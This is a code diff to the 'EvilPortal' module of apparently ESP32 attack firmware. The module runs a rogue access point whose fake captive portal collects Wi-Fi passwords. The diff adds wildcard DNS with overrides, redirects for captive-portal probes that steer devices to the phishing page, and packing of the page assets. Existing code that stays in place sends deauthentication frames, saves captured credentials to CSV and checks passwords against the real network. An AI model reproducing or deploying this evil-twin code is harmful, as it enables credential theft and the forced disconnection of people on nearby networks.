@@ -5,11 +5,20 @@
 #include "core/sd_functions.h"
 #include "core/utils.h"
 #include "core/wifi/wifi_common.h"
+#include "esp_heap_caps.h"
 #include "esp_wifi.h"
 #include "wifi_atks.h"
 
+// Packed assets go to PSRAM when available, internal RAM otherwise
+static void *portalAlloc(size_t size) {
+    void *ptr = heap_caps_malloc(size, MALLOC_CAP_8BIT | MALLOC_CAP_SPIRAM);
+    if (!ptr) ptr = heap_caps_malloc(size, MALLOC_CAP_8BIT);
+    return ptr;
+}
+
 EvilPortal::EvilPortal(String tssid, uint8_t channel, bool deauth, bool verifyPwd)
-    : apName(tssid), _channel(channel), _deauth(deauth), _verifyPwd(verifyPwd), webServer(80) {
+    : apName(tssid), _channel(channel), _deauth(deauth), _verifyPwd(verifyPwd), webServer(80),
+      assets(portalAlloc) {
     if (!setup()) return;
 
     beginAP();
@@ -18,7 +27,7 @@ EvilPortal::EvilPortal(String tssid, uint8_t channel, bool deauth, bool verifyPw
 
 EvilPortal::~EvilPortal() {
     webServer.end();
-    dnsServer.stop();
+    dnsServer.end();
     vTaskDelay(100 / portTICK_PERIOD_MS);
     wifiDisconnect();
 };
@@ -40,7 +49,7 @@ void EvilPortal::CaptiveRequestHandler::handleRequest(AsyncWebServerRequest *req
         } else {
             request->send(200, "text/html", _portal->ssid_GET());
         }
-    } else {
+    } else if (!_portal->captiveProbeController(request)) {
         if (request->args() > 0) _portal->credsController(request);
         else _portal->portalController(request);
     }
@@ -106,8 +115,10 @@ void EvilPortal::beginAP() {
     int tmp = millis();
     while (millis() - tmp < 3000) yield();
 
+    portalUrl = "http://" + WiFi.softAPIP().toString() + "/";
+    buildAssetTable();
     setupRoutes();
-    dnsServer.start(53, "*", WiFi.softAPIP());
+    startDns();
     webServer.begin();
 }
 
@@ -162,6 +173,7 @@ void EvilPortal::setupRoutes() {
     }
 
     webServer.onNotFound([this](AsyncWebServerRequest *request) {
+        if (captiveProbeController(request)) return;
         if (request->args() > 0) credsController(request);
         else portalController(request);
     });
@@ -181,6 +193,113 @@ void EvilPortal::restartWiFi(bool reset) {
     if (reset) { resetCapturedCredentials(); }
 }
 
+void EvilPortal::buildAssetTable() {
+    uint32_t start = millis();
+    assets.clear();
+
+    if (isDefaultHtml) {
+        // htmlPage stays as the uncompressed body for clients that don't take gzip
+        assets.add("/", "text/html", (const uint8_t *)htmlPage.c_str(), htmlPage.length());
+    } else {
+        File htmlFile = fsHtmlFile->open(htmlFileName, FILE_READ);
+        if (htmlFile) {
+            size_t len = htmlFile.size();
+            uint8_t *buf = (uint8_t *)portalAlloc(len);
+            if (buf) {
+                if (htmlFile.read(buf, len) == len) assets.add("/", "text/html", buf, len);
+                free(buf);
+            }
+            htmlFile.close();
+        }
+        if (!assets.find("/")) Serial.println("Evil Portal: html too big for RAM, serving from storage");
+    }
+
+    String loadPage = wifiLoadPage();
+    assets.add("/loading", "text/html", (const uint8_t *)loadPage.c_str(), loadPage.length());
+
+    Serial.printf(
+        "Evil Portal: %u assets, %u -> %u bytes packed in %lums\n",
+        (unsigned)assets.count(),
+        (unsigned)assets.rawBytes(),
+        (unsigned)assets.packedBytes(),
+        (unsigned long)(millis() - start)
+    );
+}
+
+void EvilPortal::startDns() {
+    uint8_t ip[4];
+    for (const auto &entry : bruceConfig.dnsOverrides) {
+        IPAddress overrideIp;
+        if (!overrideIp.fromString(entry.second)) continue;
+        for (int i = 0; i < 4; i++) ip[i] = overrideIp[i];
+        if (!dnsServer.addRecord(entry.first.c_str(), ip)) {
+            log_w("DNS override ignored: %s", entry.first.c_str());
+        }
+    }
+    IPAddress apIp = WiFi.softAPIP();
+    for (int i = 0; i < 4; i++) ip[i] = apIp[i];
+    dnsServer.addRecord("*", ip);
+    if (!dnsServer.begin(53)) Serial.println("Evil Portal: failed to start DNS responder");
+}
+
+bool EvilPortal::sendAsset(AsyncWebServerRequest *request, const char *path) {
+    const portal_assets::PortalAsset *asset = assets.find(path);
+    if (!asset) return false;
+    // only the gzip body is kept, the caller sends the plain page from its source otherwise
+    if (!request->hasHeader("Accept-Encoding") ||
+        !portal_assets::acceptsGzip(request->header("Accept-Encoding").c_str())) {
+        return false;
+    }
+
+    AsyncWebServerResponse *response;
+    if (request->hasHeader("If-None-Match") && request->header("If-None-Match") == asset->etag) {
+        response = request->beginResponse(304);
+    } else {
+        response = request->beginResponse(200, String(asset->mime), asset->gz, asset->gzLen);
+        response->addHeader("Content-Encoding", "gzip");
+    }
+    response->addHeader("ETag", asset->etag);
+    response->addHeader("Vary", "Accept-Encoding");
+    // revalidate every time so a changed page is picked up, but let the ETag avoid resending it
+    response->addHeader("Cache-Control", "no-cache");
+    request->send(response);
+    return true;
+}
+
+bool EvilPortal::captiveProbeController(AsyncWebServerRequest *request) {
+    switch (portal_assets::captiveProbeAction(request->url().c_str())) {
+        case portal_assets::ProbeAction::Redirect:
+            requestCount++;
+            request->redirect(portalUrl);
+            return true;
+        case portal_assets::ProbeAction::Portal: portalController(request); return true;
+        default: return false;
+    }
+}
+
+void EvilPortal::updateStats(bool force) {
+    uint32_t now = millis();
+    uint32_t elapsed = now - lastStatsTime;
+    if (elapsed >= 1000) {
+        uint32_t total = requestCount;
+        requestsPerSecond = (total - lastRequestCount) * 1000 / elapsed;
+        lastRequestCount = total;
+        lastStatsTime = now;
+        connectedClients = WiFi.softAPgetStationNum();
+        if (connectedClients > peakClients) peakClients = connectedClients;
+    } else if (!force) {
+        return;
+    }
+
+    String stats = "Cli " + String(connectedClients) + "/" + String(peakClients) + " " +
+                   String(requestsPerSecond) + "r/s DNS " + String(dnsServer.stats().avgUs()) + "us";
+    int y = tftHeight - BORDER_PAD_X - FP * LH;
+    tft.setTextSize(FP);
+    tft.setTextColor(bruceConfig.priColor, bruceConfig.bgColor);
+    tft.fillRect(BORDER_PAD_X, y, 26 * LW * FP, FP * LH, bruceConfig.bgColor);
+    tft.drawString(stats, BORDER_PAD_X, y, SMOOTH_FONT);
+}
+
 void EvilPortal::resetCapturedCredentials(void) {
     previousTotalCapturedCredentials = -1; // Reset captured credentials count
 }
@@ -188,6 +307,7 @@ void EvilPortal::resetCapturedCredentials(void) {
 void EvilPortal::loop() {
     int lastDeauthTime = millis(); // one deauth frame each 30ms at least
     bool shouldRedraw = true;
+    lastStatsTime = millis();
 
     while (true) {
         if (shouldRedraw) {
@@ -195,7 +315,7 @@ void EvilPortal::loop() {
             shouldRedraw = false;
         }
 
-        dnsServer.processNextRequest();
+        updateStats();
 
         if (!isDeauthHeld && (millis() - lastDeauthTime) > 250 && _deauth) {
             send_raw_frame(deauth_frame, 26); // Sends deauth frames if needed
@@ -262,6 +382,7 @@ void EvilPortal::drawScreen() {
     printLastCapturedCredential();
 
     printDeauthStatus();
+    updateStats(true);
 }
 
 void EvilPortal::printLastCapturedCredential() {
@@ -501,6 +622,8 @@ void EvilPortal::loadDefaultHtml() {
 }
 
 void EvilPortal::portalController(AsyncWebServerRequest *request) {
+    requestCount++;
+    if (sendAsset(request, "/")) return;
     if (isDefaultHtml) request->send(200, "text/html", htmlPage);
     else { request->send(*fsHtmlFile, htmlFileName, "text/html"); }
 }
@@ -511,6 +634,7 @@ void EvilPortal::credsController(AsyncWebServerRequest *request) {
     String csvLine = "";
     String key;
     lastCred = "";
+    requestCount++;
 
     for (int i = 0; i < request->args(); i++) {
         key = request->argName(i);
@@ -562,7 +686,7 @@ void EvilPortal::credsController(AsyncWebServerRequest *request) {
     htmlResponse += "</li>\n";
 
     if (_verifyPwd && passwordValue != "") {
-        request->send(200, "text/html", wifiLoadPage());
+        if (!sendAsset(request, "/loading")) request->send(200, "text/html", wifiLoadPage());
         // vTaskDelay(200 / portTICK_PERIOD_MS); // give it time to process the request
         bool isCorrect = verifyCreds(apName, passwordValue);
         if (isCorrect) {
@@ -589,7 +713,7 @@ void EvilPortal::credsController(AsyncWebServerRequest *request) {
         }
     } else {
         saveToCSV(csvLine);
-        request->send(200, "text/html", wifiLoadPage());
+        if (!sendAsset(request, "/loading")) request->send(200, "text/html", wifiLoadPage());
     }
 
     capturedCredentialsHtml = htmlResponse + capturedCredentialsHtml;